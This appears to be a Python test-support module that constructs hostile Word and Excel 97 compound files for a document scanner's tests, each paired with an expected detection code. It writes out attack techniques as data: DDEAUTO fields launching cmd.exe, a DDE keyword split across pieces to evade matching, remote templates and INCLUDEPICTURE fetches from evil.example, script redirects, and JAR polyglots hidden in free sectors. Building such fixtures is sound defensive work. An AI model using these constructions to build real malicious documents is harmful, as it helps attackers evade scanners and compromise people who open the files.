"""Hostile .doc (and .xls) files, built at test time the way attackers build them.

Each builder returns (filename, bytes, expected `found` code). Compound files are written
by tests/support/cfb.py and the Word text by documents.word_streams (a Word 97 FIB and a
piece table), then changed where an attacker changes them: a signature in front of
another format, sectors no chain uses, a JAR whose end record reaches the file's end,
fields whose keyword is split across pieces stored in another order.
"""

from __future__ import annotations

import io
import struct
import zipfile

from . import cfb
from .documents import word_streams


def _letter() -> dict:
    return word_streams("Please find the invoice attached. Enable content to view it.\r" * 10)


def doc_autoopen_macro() -> tuple[str, bytes, str]:
    """Word 97's layout: Macros/VBA with a module that runs AutoOpen."""
    streams = {
        "VBA": {
            "dir": b"\x01" + b"\x00" * 200,
            "_VBA_PROJECT": b"\xcc\x61" + b"\xff" * 5,
            "NewMacros": b'\x00Attribut\x00e VB_Nam\x00e = "NewMacros"\r\nSub AutoOpen()\r\nEnd Sub\r\n',
        },
        "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=NewMacros\r\n',
    }
    return "invoice.doc", cfb.write({**_letter(), "Macros": streams}), "macro"


def doc_vba_in_plain_stream() -> tuple[str, bytes, str]:
    """Compressed VBA source in a stream under an innocent name (mraptor: any stream)."""
    source = b'\x00Attribut\x00e VB_Nam\x00e = "Module1"\r\nSub Document_Open()\r\nEnd Sub\r\n'
    return "notes.doc", cfb.write({**_letter(), "Data": source.ljust(6000, b"\0")}), "macro"


def doc_ddeauto() -> tuple[str, bytes, str]:
    """A DDEAUTO field in the text of a Word 97 document (field begin 0x13 ... end 0x15)."""
    text = 'Invoice attached.\r\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \x14x\x15\r'
    return "dde.doc", cfb.write(word_streams(text * 5)), "dde"


def xls_excel_macros() -> tuple[str, bytes, str]:
    """An Excel 97 workbook with its VBA project under _VBA_PROJECT_CUR."""
    vba = {"VBA": {"dir": b"\x01" + b"\x00" * 200, "ThisWorkbook": b'\x00Attribut\x00e VB_Nam\x00e = "ThisWorkbook"'}}
    return "book.xls", cfb.write({"Workbook": b"\x09\x08" + b"\x00" * 5000, "_VBA_PROJECT_CUR": vba}), "macro"


def doc_object_pool() -> tuple[str, bytes, str]:
    """An embedded OLE package (ObjectPool/_1234/\\x01Ole10Native) carrying an .exe."""
    pool = {
        "_1612345678": {
            "\x01Ole10Native": b"\x10\x00\x00\x00invoice.exe\x00" + b"MZ" * 300,
            "\x01CompObj": b"\x01\x00\xfe\xff" + b"\0" * 60,
        }
    }
    return "package.doc", cfb.write({**_letter(), "ObjectPool": pool}), "ole_object"


def doc_html_behind_header() -> tuple[str, bytes, str]:
    """An OLE2 header in front of an HTML page."""
    page = b"<html><body><script>document.location='https://evil.example/'</script></body></html>"
    return "page.doc", cfb.write(_letter())[:512] + page.ljust(1536, b" "), "malformed"


def doc_encrypted() -> tuple[str, bytes, str]:
    """fEncrypted set in the FIB: the content cannot be inspected."""
    streams = _letter()
    fib = bytearray(streams["WordDocument"])
    fib[0x0B] |= 0x01  # flags at 0x0A, fEncrypted is bit 8
    return "locked.doc", cfb.write({**streams, "WordDocument": bytes(fib)}), "malformed"


def runnable_jar(comment_to: int = 0) -> bytes:
    """A JAR as `java -jar` wants one: a manifest naming its main class, and the class."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as jar:
        jar.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: Payload\r\n\r\n")
        jar.writestr("Payload.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 300)
        jar.comment = b"\0" * comment_to
    return out.getvalue()


def doc_word2_html() -> tuple[str, bytes, str]:
    """A Word 2.0 signature (libmagic: application/msword) in front of an HTML page."""
    page = b"<html><body><script>document.location='https://evil.example/'</script></body></html>"
    return "memo.doc", b"\xdb\xa5\x2d\x00\x00\x00" + page * 20, "malformed"


def doc_word2_jar() -> tuple[str, bytes, str]:
    """A Word 2.0 signature in front of a runnable JAR (java finds the zip from its end)."""
    return "tool.doc", b"\xdb\xa5\x2d\x00\x00\x00" + runnable_jar(), "malformed"


def _appended(payload: bytes) -> bytes:
    """The letter with `payload` in sectors appended after every chain (the FAT marks them free)."""
    data = cfb.write(_letter())
    return data + payload + b"\0" * (-len(payload) % cfb.SECTOR)


def doc_jar_in_free_sectors() -> tuple[str, bytes, str]:
    """A real compound file with a JAR in sectors no chain uses, its zip comment running to the end."""
    letter = cfb.write(_letter())
    jar = runnable_jar()
    padding = -len(jar) % cfb.SECTOR
    return "letter.doc", letter + runnable_jar(comment_to=padding), "polyglot"


def doc_html_in_free_sectors() -> tuple[str, bytes, str]:
    """An HTML page in sectors after the last one any chain uses."""
    return "letter2.doc", _appended(b"<html><script>alert(document.domain)</script></html>" * 30), "malformed"


def doc_jar_in_a_stream() -> tuple[str, bytes, str]:
    """A JAR inside an ordinary stream, the last bytes of the file after it declared as its
    zip comment: every sector accounted for, and `java -jar letter.doc` still runs it."""
    streams = {**_letter(), "Data": runnable_jar().ljust(8192, b"\0")}
    first = cfb.write(streams)
    jar = runnable_jar()
    at = first.find(jar[:30])
    comment = len(first) - (at + len(jar))
    streams["Data"] = (runnable_jar(comment_to=0)[:-2] + struct.pack("<H", comment)).ljust(8192, b"\0")
    return "data.doc", cfb.write(streams), "polyglot"


def _fields_doc(text: str) -> bytes:
    return cfb.write(word_streams(text))


def doc_includepicture() -> tuple[str, bytes, str]:
    text = 'Our logo:\r\x13 INCLUDEPICTURE "https://evil.example/logo.png" \\d \x14\x01\x15\r'
    return "logo.doc", _fields_doc(text * 3), "external_field"


def doc_quote_computed_dde() -> tuple[str, bytes, str]:
    """`{ {QUOTE 68 68 69 65 85 84 79} cmd.exe }` in the Word binary."""
    text = "Total:\r\x13\x13 QUOTE 68 68 69 65 85 84 79 \x14DDEAUTO\x15 c:\\windows\\cmd.exe \x14x\x15\r"
    return "quote.doc", _fields_doc(text * 3), "external_field"


def doc_dde_split_across_pieces() -> tuple[str, bytes, str]:
    """DDEAUTO cut inside its keyword into two pieces stored in the opposite order: the
    stream never holds `0x13 DDE...`, the text Word assembles from the piece table does."""
    streams = word_streams("x")
    first, second = "Invoice\r\x13 DD".encode("cp1252"), b'EAUTO c:\\windows\\cmd.exe "/k calc" \x14x\x15\r'
    document = bytearray(streams["WordDocument"])
    at_second, at_first = 0x800, 0x800 + len(second) + 16
    document[at_second : at_second + len(second)] = second
    document[at_first : at_first + len(first)] = first
    ccp = len(first) + len(second)
    pieces = struct.pack("<3L", 0, len(first), ccp) + b"".join(
        struct.pack("<HLH", 0, (at * 2) | 0x40000000, 0) for at in (at_first, at_second)
    )
    clx = b"\x02" + struct.pack("<L", len(pieces)) + pieces
    table = clx.ljust(4096, b"\0")
    fib_pairs = 154  # FibRgFcLcb97 after FibBase, fibRgW and fibRgLw
    struct.pack_into("<2L", document, fib_pairs + 33 * 8, 0, len(clx))
    struct.pack_into("<L", document, 64 + 12, ccp)  # ccpText in fibRgLw
    return "split.doc", cfb.write({"WordDocument": bytes(document), "1Table": table}), "dde"


def doc_remote_template() -> tuple[str, bytes, str]:
    """An attached template named by a URL (SttbfAssoc string 1), fetched when Word opens it."""
    streams = _letter()
    strings = ["", "https://evil.example/templates/Normal.dotm"]
    sttb = b"\xff\xff" + struct.pack("<2H", len(strings), 0)
    sttb += b"".join(struct.pack("<H", len(v)) + v.encode("utf-16-le") for v in strings)
    table = bytearray(streams["1Table"])
    at = 2048
    table[at : at + len(sttb)] = sttb
    document = bytearray(streams["WordDocument"])
    struct.pack_into("<2L", document, 154 + 32 * 8, at, len(sttb))
    return "template.doc", cfb.write({"WordDocument": bytes(document), "1Table": bytes(table)}), "external_relationship"


def doc_word95() -> tuple[str, bytes, str]:
    """A compound file whose WordDocument is Word 6/95's (wIdent 0xA5DC): not read, refused."""
    streams = _letter()
    document = bytearray(streams["WordDocument"])
    document[0:2] = struct.pack("<H", 0xA5DC)
    return "old.doc", cfb.write({**streams, "WordDocument": bytes(document)}), "malformed"


OLE_HOSTILE = [
    doc_ddeauto,
    xls_excel_macros,
    doc_autoopen_macro,
    doc_vba_in_plain_stream,
    doc_object_pool,
    doc_html_behind_header,
    doc_encrypted,
    doc_word2_html,
    doc_word2_jar,
    doc_jar_in_free_sectors,
    doc_html_in_free_sectors,
    doc_jar_in_a_stream,
    doc_includepicture,
    doc_quote_computed_dde,
    doc_dde_split_across_pieces,
    doc_remote_template,
    doc_word95,
]
